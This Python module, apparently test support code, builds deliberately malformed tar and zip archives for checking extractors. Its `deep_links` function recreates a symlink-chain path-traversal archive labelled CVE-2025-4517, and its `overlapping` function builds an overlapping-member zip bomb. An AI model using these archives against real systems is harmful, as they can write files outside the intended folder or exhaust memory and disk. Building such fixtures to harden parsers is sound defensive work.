"""Zip and tar archives put together byte by byte, so that each byte can be wrong."""

import random
import stat
import struct
import zlib
from dataclasses import dataclass

END = bytes(1024)
FILE, FOLDER, LINK = stat.S_IFREG | 0o644, stat.S_IFDIR | 0o755, stat.S_IFLNK | 0o777
NOISE = random.Random(0).randbytes(200_000)
ZEROS = bytes(2**22)


def header(name, size=0, kind=b"0", link=b"", magic=b"ustar\x0000", prefix=b"", size_field=None):
    assert len(name) <= 100
    owner, sizes = (b"0000777\0", b"0000000\0", b"0000000\0"), (size_field or b"%011o\0" % size, b"00000000000\0")
    fields = (name, *owner, *sizes, b" " * 8, kind, link, magic, b"root", b"root", *owner[1:], prefix)
    return with_sum(struct.pack("100s8s8s8s12s12s8ss100s8s32s32s8s8s155s12x", *fields))


def with_sum(block):
    return block[:148] + b"%06o\0 " % sum(block[:148] + b" " * 8 + block[156:]) + block[156:]


def member(name, content=b"harm", **fields):
    """Return a header and its content, padded."""
    return header(name, len(content), **fields) + content + bytes(-len(content) % 512)


def long_name(name, kind=b"L"):
    return member(b"././@LongLink", name + b"\0", kind=kind, magic=b"ustar  \0")


def record(key, value):
    rest = b" %s=%s\n" % (key, value)
    length = len(rest) + 1
    while len(b"%d" % length) + len(rest) != length:
        length += 1
    return b"%d" % length + rest


def pax(kind=b"x", content=None, **records):
    """Return an extended header; a double underscore stands for a dot."""
    content = content or b"".join(record(key.replace("__", ".").encode(), value) for key, value in records.items())
    return member(b"PaxHeaders/x", content, kind=kind)


GOOD = member(b"good/0.txt", b"good")


def tar(*blocks, end=END):
    return b"".join((GOOD, *blocks)) + end


def deep_links():
    """Return CVE-2025-4517: so many links that `realpath` gives up before it sees where they lead."""
    blocks, part = [], b"d" * 99
    for letter in b"abcdefghijklmnop":
        blocks += [header(part, kind=b"5"), header(bytes([letter]), kind=b"2", link=part)]
        part = bytes([letter]) + b"/" + part[: 97 - len(part) % 2]
    return tar(*blocks, member(b"a/b/c/../../../sibling.txt"))


@dataclass(frozen=True)
class Entry:
    """A member of a zip, and fields that differ in its own header (`local`) or in the directory (`listed`)."""

    name: bytes
    content: bytes = b"harm"
    method: int = 0
    flags: int = 0
    mode: int = FILE
    packed: bytes | None = None
    local: tuple[tuple[str, object], ...] = ()
    listed: tuple[tuple[str, object], ...] = ()
    extra: bytes = b""

    def fields(self):
        packed = self.packed or (deflate(self.content) if self.method == 8 else self.content)
        fields = {"name": self.name, "flags": self.flags, "method": self.method, "crc": zlib.crc32(self.content)}
        return {**fields, "packed_bytes": len(packed), "size": len(self.content), "packed": packed}


def deflate(content):
    packer = zlib.compressobj(9, wbits=-15)
    return packer.compress(content) + packer.flush()


def both(**fields):
    """Change fields in both headers of an entry."""
    return {"local": tuple(fields.items()), "listed": tuple(fields.items())}


def zip_local(*, name, flags=0, method=8, crc, packed_bytes, size, **_):
    sizes = (crc, packed_bytes, size, len(name), 0)
    return struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 33, *sizes) + name


def zip_listed(mode=FILE, extra=b"", *, name, flags=0, method=8, crc, packed_bytes, size, start, disk=0, **_):
    sizes = (crc, packed_bytes, size, len(name), len(extra), 0, disk, 0, mode << 16, start)
    return struct.pack("<4s6H3I5H2I", b"PK\1\2", 0x314, 20, flags, method, 0, 33, *sizes) + name + extra


def zip_end(number, size, start, *, disk=0, here=None, comment=b""):
    here = number if here is None else here
    return struct.pack("<4s4H2IH", b"PK\5\6", disk, 0, here, number, size, start, len(comment)) + comment


def zipped(*entries, before=b"", **end):
    """Return a zip of `entries`; `end` changes fields of the record that ends it."""
    body, directory = before, b""
    entries = (Entry(b"good/0.txt", b"good"), *entries)
    for entry in entries:
        own = {**entry.fields(), **dict(entry.local)}
        listed = {"start": len(body), **entry.fields(), **dict(entry.listed)}
        body += zip_local(**own) + own["packed"]
        directory += zip_listed(entry.mode, entry.extra, **listed)
    return body + directory + zip_end(**{"number": len(entries), "size": len(directory), "start": len(body), **end})


def large(archive, **changes):
    """Add the zip64 record, which counts where the usual one is full."""
    end = archive.rindex(b"PK\5\6")
    _, _, _, here, number, size, start, _ = struct.unpack("<4s4H2IH", archive[end:])
    fields = {"length": 44, "here": here, "number": number, "size": size, "start": start, "place": end, **changes}
    length, *counts, place = fields.values()
    zip64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", length, 45, 45, 0, 0, *counts)
    return archive[:end] + zip64 + struct.pack("<4sIQI", b"PK\6\7", 0, place, 1) + zip_end(0xFFFF, 2**32 - 1, 2**32 - 1)


def overlapping(number=20):
    """Return Fifield's bomb: each member quotes the next one's header, and all end in the same kernel."""
    packed, content, body, members = deflate(ZEROS), ZEROS, b"", []
    for place in range(number):
        sizes = {"crc": zlib.crc32(content), "packed_bytes": len(packed), "size": len(content)}
        own = zip_local(name=b"%04d" % place, **sizes)
        body = own + packed
        members.append((len(body), {"name": b"%04d" % place, **sizes}))
        packed, content = struct.pack("<BHH", 0, len(own), len(own) ^ 0xFFFF) + body, own + content
    directory = b"".join(zip_listed(start=len(body) - behind, **fields) for behind, fields in reversed(members))
    return body + directory + zip_end(number, len(directory), len(body))
